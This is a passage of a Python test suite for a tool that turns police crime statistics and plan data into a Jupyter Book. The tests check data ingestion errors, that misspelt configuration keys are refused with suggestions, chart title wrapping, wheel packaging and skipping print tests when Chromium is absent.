    table.write_text("Financial Year,Financial Quarter,Force Name,Offence Subgroup,Number of Offences\n"
                     f"2022/23,1,Essex,Domestic burglary,10\n2022/23,1,Essex,Residential burglary,{count}\n")
    with pytest.raises(ingest.IngestError, match="line 3, field 'Number of Offences'"):
        ingest.home_office(table, "Essex")


def test_N7_a_file_that_is_no_spreadsheet_is_named(tmp_path):
    workbook = tmp_path / "prc.xlsx"
    workbook.write_bytes(b"\x00\x01garbage")
    with pytest.raises(ingest.IngestError, match="prc.xlsx: not a readable spreadsheet"):
        ingest.home_office(workbook, "Essex")


def test_N8_a_month_named_for_the_force_in_two_spellings_is_still_one_month(tmp_path):
    first = _street_file(tmp_path / "a-street.csv", "2024-01")
    second = tmp_path / "b-street.csv"
    second.write_text(first.read_text().replace(",Essex Police,Essex Police,", ",Essex Police,Essex Police ,")
                      + "extra,2024-01,Essex Police,Essex Police ,0.1,51.7,X,E01000001,Essex 001A,Burglary,,\n")
    with pytest.raises(ingest.IngestError, match="2024-01 is also in"):
        ingest.police_uk([first, second])


@pytest.mark.parametrize("line", ["Retruns: modelled", "Quater: 2023-24-Q3", "Return: x"])
def test_N9_a_misspelt_header_field_of_a_return_is_named(tmp_path, line):
    path = tmp_path / "2023-24-Q4.md"
    path.write_text(f"{line}\n\n## 1.1\nWho: A\nStatus: on track\n\nDone.\n")
    [problem] = commentary.parse(path)[2]
    assert problem.line == 1 and "did you mean" in problem.message


def test_N10_validate_checks_the_strategies_too(data_copy, capsys):
    _edit(data_copy / "strategies" / f"{STRATEGY}.yaml", "delivery_plan_modelled:", "delivery_plan_modeled:")
    assert commands.main(["validate", "--data", str(data_copy)]) == 2
    assert "did you mean 'delivery_plan_modelled'?" in capsys.readouterr().err


def test_N11_a_long_chart_title_is_wrapped_and_given_room():
    from pcpbook.present import figures
    title = figures.wrapped_title("Burglary (all): residential, business and community burglary offences recorded by the force")
    assert title.count("\n") == 1 and title.replace("\n", " ").endswith("recorded by the force")
    import matplotlib.pyplot as plt
    figure, axes = plt.subplots(figsize=(7.5, 4.0))
    axes.set_title(title, loc="left")
    assert figures.title_room(figure) == pytest.approx(figures.TITLE_LINE_INCHES / 4.0)
    plt.close(figure)


@pytest.mark.parametrize("old, new, hint", [
    ("use_repository_button: false", "use_repository_buton: false", "did you mean 'use_repository_button'?"),
    ("execute_notebooks: force", "execute_notebook: force", "did you mean 'execute_notebooks'?")])
def test_N13_a_misspelt_key_in_a_jupyter_book_section_is_refused(tmp_path, old, new, hint):
    folder = copy_project(tmp_path / "project")
    _edit(folder / "_config.yml", old, new)
    with pytest.raises(settings.SettingsError, match=hint):
        settings.load_project(folder)


def test_N12_an_empty_quarter_is_refused_not_read_as_the_latest(capsys):
    assert commands.main(["--project", str(ROOT), "build", "--quarter", ""]) == 2
    assert "quarter" in capsys.readouterr().err


# ----------------------------------------------------------------------------- the code review

@pytest.mark.parametrize("file, old, new, field, hint", [
    ("measures.yaml", "- id: residential_burglary\n  decompose: true", "- id: residential_burglary\n  decompse: true",
     "decompse", "did you mean 'decompose'?"),
    ("plans/2016-2021.yaml", "target: {measure:", "targt: {measure:", "targt", "did you mean 'target'?"),
])
def test_R1_an_unknown_key_is_refused_with_the_closest_known_one(data_copy, file, old, new, field, hint):
    _edit(data_copy / file, old, new)
    problem = _problems(data_copy)[0]
    assert problem.field == field and hint in problem.message and problem.line is not None


def test_R1_an_unknown_setting_in_config_yml_is_refused(tmp_path):
    folder = copy_project(tmp_path / "project")
    _edit(folder / "_config.yml", "  marking: OFFICIAL", "  markings: OFFICIAL")
    with pytest.raises(settings.SettingsError, match="field 'pcpbook.markings': unknown field .* did you mean 'marking'"):
        settings.load_project(folder)


def test_R2_a_wheel_holds_every_subpackage_template_and_reference_table(tmp_path):
    source = tmp_path / "source"  # built from a copy: setuptools leaves build/ and egg-info beside the source
    shutil.copytree(ROOT / "pcpbook", source / "pcpbook", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "pyproject.toml", source)
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q", "-w",
                    str(tmp_path), str(source)], check=True, capture_output=True)
    [wheel] = tmp_path.glob("pcpbook-*.whl")
    names = set(zipfile.ZipFile(wheel).namelist())
    wanted = {p.relative_to(ROOT).as_posix() for p in (ROOT / "pcpbook").rglob("*")
              if p.is_file() and "__pycache__" not in p.parts}
    assert wanted <= names, sorted(wanted - names)
    installed = tmp_path / "installed"  # the wheel installed, not the source: it works from anywhere
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--target", str(installed), str(wheel)],
                   check=True, capture_output=True)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    run = subprocess.run([sys.executable, "-m", "pcpbook", "validate", "--data", str(ROOT / "data")], cwd=outside,
                         env={**os.environ, "PYTHONPATH": str(installed)}, capture_output=True, text=True)
    assert run.returncode == 0 and ": valid;" in run.stdout, run.stderr
    where = subprocess.run([sys.executable, "-c", "import pcpbook.contracts, pcpbook.stats; print(pcpbook.__file__)"],
                           cwd=outside, env={**os.environ, "PYTHONPATH": str(installed)}, capture_output=True, text=True)
    assert where.stdout.startswith(str(installed))


def test_R3_print_tests_skip_saying_why_where_chromium_is_absent(tmp_path):
    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-rs", "-p", "no:cacheprovider",
                             str(ROOT / "tests" / "test_print_edition.py"), "-k", "runs_no_script"],
                            env={**os.environ, "PCPBOOK_CHROMIUM": str(tmp_path / "no-chromium")},
                            capture_output=True, text=True, cwd=ROOT)
    assert result.returncode == 0 and "1 skipped" in result.stdout and "no print edition without Chromium" in \
        result.stdout
